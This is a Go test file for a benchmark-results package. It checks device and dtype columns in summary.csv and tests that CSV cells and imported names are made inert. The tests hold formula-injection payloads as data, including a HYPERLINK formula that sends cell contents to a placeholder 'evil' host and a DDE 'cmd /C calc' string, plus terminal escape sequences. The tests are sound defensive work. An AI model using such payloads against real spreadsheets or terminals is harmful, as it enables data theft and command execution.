package result

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// TestCSVMeasuredDevice: summary.csv said device "auto" when the worker ran on the CPU, left
// device_type empty and dtype empty unless passed. It carries what was measured now.
func TestCSVMeasuredDevice(t *testing.T) {
	r := &Run{Scenarios: []Scenario{
		// a worker asked for auto that ran on cuda:0, with its setup info
		{Benchmark: "resnet", Scenario: "bs8", Params: map[string]any{"device": "auto", "batch_size": 8},
			Environment: map[string]any{"device": "cuda:0", "setup": map[string]any{"dtype": "float16", "input_shape": "8x3x224x224"}}},
		// nothing reported: the parameter as asked, and "auto" is not a device
		{Benchmark: "mock", Scenario: "default", Params: map[string]any{"device": "auto", "dtype": "bfloat16"}},
		{Benchmark: "cmd", Scenario: "default", Params: map[string]any{"device": "cpu"}},
	}}
	var b bytes.Buffer
	if err := WriteCSV(&b, r); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	var got [][]string
	for _, row := range rows[1:] {
		got = append(got, []string{row[col["device"]], row[col["device_type"]], row[col["dtype"]], row[col["input_shape"]]})
	}
	want := [][]string{
		{"cuda:0", "cuda", "float16", "8x3x224x224"},
		{"", "", "bfloat16", ""},
		{"cpu", "cpu", "", ""},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("device, device_type, dtype, input_shape (-want +got):\n%s", diff)
	}
}

// TestCSVInert: summary.csv's text cells cannot run as spreadsheet formulas: a benchmark,
// scenario or parameter starting with =, +, -, @, a tab or a carriage return is quoted with a
// leading ', while numbers, negative ones included, stay numbers; other control characters are
// escaped (\r). Before, =HYPERLINK(...) was written as it was.
func TestCSVInert(t *testing.T) {
	r := &Run{Scenarios: []Scenario{
		{Benchmark: `=HYPERLINK("http://evil/?"&A1,"click")`, Scenario: "+cmd|' /C calc'!A0", Model: "@SUM(1+1)",
			Params: map[string]any{"framework": "-2+3", "batch_size": -4}, Status: "\tok"},
		{Benchmark: "b", Scenario: "\r=1+1", Model: "-", Params: map[string]any{"framework": "torch", "batch_size": 8}},
	}}
	var b bytes.Buffer
	if err := WriteCSV(&b, r); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	var got [][]string
	for _, row := range rows[1:] {
		got = append(got, []string{row[col["benchmark"]], row[col["scenario"]], row[col["model"]], row[col["framework"]], row[col["batch_size"]], row[col["status"]]})
	}
	want := [][]string{
		{`'=HYPERLINK("http://evil/?"&A1,"click")`, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", "-4", "'\tok"},
		{"b", `\r=1+1`, "'-", "torch", "8", ""},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("cells (-want +got):\n%s", diff)
	}
}

// TestNamesInert: the names of a run read from a file (run.json, another tool's results) hold no
// control character: a Go benchmark named with an escape sequence is shown escaped.
func TestNamesInert(t *testing.T) {
	r, err := importData([]byte("BenchmarkA\x1b[2J-8  100  5000 ns/op\n"), "bench.txt", "gobench", "id", "", time.Time{})
	if err != nil {
		t.Fatal(err)
	}
	if got := r.Scenarios[0].Benchmark + "/" + r.Scenarios[0].Scenario; strings.ContainsRune(got, 0x1b) || !strings.Contains(got, `\x1b[2J`) {
		t.Errorf("name %q: want the escape shown as \\x1b", got)
	}
	doc := `{"schema":"` + Schema + `","scenarios":[{"benchmark":"b\u001b]0;x\u0007","scenario":"default","status":"ok"}]}`
	r, err = Decode([]byte(doc), "run.json")
	if err != nil {
		t.Fatal(err)
	}
	if got := r.Scenarios[0].Benchmark; got != `b\x1b]0;x\x07` {
		t.Errorf("run.json name %q", got)
	}
}
